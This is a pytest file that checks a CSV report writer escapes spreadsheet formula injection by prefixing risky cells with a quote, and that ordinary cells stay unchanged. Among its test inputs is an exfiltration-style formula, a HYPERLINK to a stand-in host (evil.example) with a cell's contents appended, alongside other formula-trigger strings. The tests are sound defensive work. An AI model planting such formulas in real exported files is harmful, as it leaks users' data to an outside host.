"""Formula injection: a report cell a spreadsheet would run as a formula is written '<value>, quoted."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from offload_worker.load import report_cell, report_line
from offload_worker.results import Rejects


class _S3:
    def __init__(self) -> None:
        self.bodies: dict[str, bytes] = {}

    def put_object(self, Bucket: str, Key: str, Body: Any, ContentType: str) -> dict[str, str]:
        self.bodies[Key] = bytes(Body)
        return {"ETag": '"etag"'}  # as S3 answers: the report carries it


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"x")', '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"'),
        ("@SUM(1+1)", '"\'@SUM(1+1)"'),
        ("+1", '"\'+1"'),
        ("-2+3", '"\'-2+3"'),
        ("\tcmd", '"\'\tcmd"'),
        ("\rcmd", '"\'\rcmd"'),
        ("\ncmd", '"\'\ncmd"'),
        ("\x00cmd", '"\'\x00cmd"'),
    ],
)
def test_a_cell_starting_like_a_formula_is_prefixed_and_quoted(value: str, written: str) -> None:
    assert report_cell(value) == written
    (cell,) = next(csv.reader(io.StringIO(written)))
    assert cell == "'" + value  # a CSV reader gets the value back, after the quote a spreadsheet hides


@pytest.mark.parametrize("value", ["100000001", "A-1", "a=b", "x@y", "", "'quoted already", "São Paulo", "1.5"])
def test_ordinary_cells_are_written_as_before(value: str) -> None:
    assert report_cell(value) == value


def test_cells_holding_separators_are_quoted_as_csv_writes_them() -> None:
    assert report_line(["a,b", 'say "hi"', "x"]) == '"a,b","say ""hi""",x\n'


def test_the_rejects_report_escapes_its_reason_and_raw_cells() -> None:
    s3 = _S3()
    rejects = Rejects(s3, "bucket", "rejected/a.csv.rejects.csv")
    rejects.add(3, "-bad", "=1+1,Canada")
    rejects.add(4, "UnitPrice 'abc' is not a number", "Ontario,Canada")
    rejects.commit()
    assert s3.bodies["rejected/a.csv.rejects.csv"].decode() == (
        'line,reason,raw\n3,"\'-bad","\'=1+1,Canada"\n4,UnitPrice \'abc\' is not a number,"Ontario,Canada"\n'
    )
